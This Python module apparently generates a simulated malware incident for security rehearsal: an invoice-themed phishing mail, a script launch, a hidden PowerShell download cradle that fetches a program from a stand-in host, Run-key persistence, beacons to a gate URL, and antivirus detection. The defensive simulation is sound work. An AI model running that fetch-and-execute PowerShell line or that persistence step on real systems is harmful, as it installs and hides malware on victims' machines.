"""Nobody in particular in, one machine with everyday malware out: found by the antivirus, cleaned by the helpdesk."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tocsin.rehearse.acts import changes, mail, processes, web
from tocsin.rehearse.benign.admins import left, remote
from tocsin.rehearse.benign.servers import encoded
from tocsin.rehearse.dice import Dice
from tocsin.rehearse.machine import SYSTEM32, Machine, Running
from tocsin.rehearse.rhythm import HOUR_US
from tocsin.rehearse.scene import Scene
from tocsin.rehearse.stories.story import Story
from tocsin.rehearse.world import Person, Site

_MINUTE: Final = 60_000_000
_SHELL: Final = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_AGENT: Final = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-NZ) WindowsPowerShell/5.1.19041.5794"


def tell(scene: Scene, seed: int) -> tuple[Story, Iterator[int]]:
    story = Story(
        id="incident-4",
        campaign="campaign-3",
        kind="malware",
        title="Everyday malware from an invoice, on one machine",
        body=scene.world.body("ps"),
        dice=Dice(seed, "commodity"),
    )
    return story, _acts(scene, story)


def _acts(scene: Scene, story: Story) -> Iterator[int]:
    dice, body = story.dice, story.body
    yield (now := scene.world.calendar.working_day(0.3 + dice.random() * 0.3) + 10 * HOUR_US + dice.below(2 * HOUR_US))
    sitting = [person for person in body.staff("staff", "clerk") if _sits(scene, person, now)]
    if not sitting:
        return
    person = dice.one(sitting)
    machine = scene.station(person)
    number = dice.below(90_000)
    with story.step(scene, now, "T1566.001", "A mail with an archive comes"):
        sender = f"billing@{dice.letters(6).lower()}parts.test"
        message = mail.message(scene, sender, person.mailbox, f"Overdue invoice {number}", 88_000)
        mail.arrives(scene, body, now, message, (f"vps{number % 900}.hosting.test", "203.0.113.246"))
    story.concerns("targeted", person.id)
    story.concerns("reached", person.id)
    yield (now := now + 11 * _MINUTE + dice.below(20 * _MINUTE))
    site = Site(name=f"cdn-{dice.letters(5).lower()}.test", address="203.0.113.247", tls=False)
    gate = Site(name=f"api-{dice.letters(6).lower()}.test", address="203.0.113.248", tls=True)
    loader = _opens(scene, story, person, machine, now, number, site)
    for _ in range(8):
        yield (now := now + 5 * _MINUTE + dice.below(_MINUTE))
        with story.step(scene, now, "T1071.001", "It calls home", host=machine.host, again="calls"):
            _calls(scene, story, loader, gate, now, "/gate.php")
    yield (now := now + 3 * _MINUTE)
    with story.step(scene, now, "T1204.002", "The antivirus finds it", host=machine.host, account=person.account):
        changes.found(scene, machine, now, "Trojan:Win32/Wacatac.B!ml", loader.image, person.account)
        processes.end(scene, loader, now + 1_900_000)
    story.contained_us = now
    yield (now := now + 25 * _MINUTE)
    # The helpdesk comes to it: ordinary work.
    helper = body.staff("helpdesk")[0]
    account = f"{body.netbios}\\adm-{helper.user}"
    session, shell = remote(scene, body, account, scene.station(helper).host, machine, now, 900, None)
    left(scene, machine, session, shell, now + 900_000_000)


def _sits(scene: Scene, person: Person, ts_us: int) -> bool:
    """True if somebody is at their desk then, on a machine that is watched, and stays a while."""
    machine = scene.station(person)
    run = machine.core.get("outlook")
    here = run is not None and run.since_us < ts_us and run.until_us > ts_us + 2 * HOUR_US
    return here and machine.host.sysmon and not machine.silent(ts_us)


def _calls(scene: Scene, story: Story, run: Running, site: Site, ts_us: int, target: str, received: int = 240) -> None:
    request = web.Request(method="POST", target=target, sent=300, received=received)
    web.fetch(scene, ts_us, run.machine.host, site, [request], agent=_AGENT, run=run, resolve=story.dice.chance(0.4))
    story.addresses.add(site.address)
    story.domains.add(site.name)


def _opens(
    scene: Scene, story: Story, person: Person, machine: Machine, ts_us: int, number: int, site: Site
) -> Running:
    """The script in the archive fetches a program and has it started at each logon."""
    shell = machine.shell
    assert shell
    local = f"C:\\Users\\{person.user}\\AppData"
    lure = f"{local}\\Local\\Temp\\Temp1_invoice-{number}.zip\\invoice-{number}.js"
    with story.step(
        scene, ts_us, "T1204.002 T1059.007", "The script in it is opened", host=machine.host, account=person.account
    ):
        processes.writes(scene, shell, ts_us - 900_000, lure)
        script = processes.start(
            scene, machine, ts_us, SYSTEM32 + "wscript.exe", f'"{SYSTEM32}WScript.exe" "{lure}"', shell
        )
    text = f"IEX (New-Object Net.WebClient).DownloadString('http://{site.name}/a{number}.txt')"
    at = ts_us + 2_000_000
    target = f"{local}\\Roaming\\MediaSync\\msync.exe"
    with story.step(
        scene, at, "T1059.001 T1105", "PowerShell fetches a program", host=machine.host, account=person.account
    ):
        line = f"powershell.exe -w hidden -nop -ep bypass -e {encoded(text)}"
        run = processes.once(scene, machine, at, _SHELL, line, script, lasts_s=20)
        processes.script(scene, run, at + 600_000, text)
        _calls(scene, story, run, site, at + 900_000, f"/a{number}.txt", received=311_296)
        processes.writes(scene, run, at + 4_000_000, target)
    processes.end(scene, script, ts_us + 30_000_000)
    at += 7_000_000
    with story.step(
        scene, at, "T1547.001", "It is started at each logon from now on", host=machine.host, account=person.account
    ):
        key = f"HKU\\{person.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MediaSync"
        processes.sets(scene, run, at, key, f'"{target}" /silent')
        return processes.start(scene, machine, at + 2_000_000, target, f'"{target}" /silent', run)
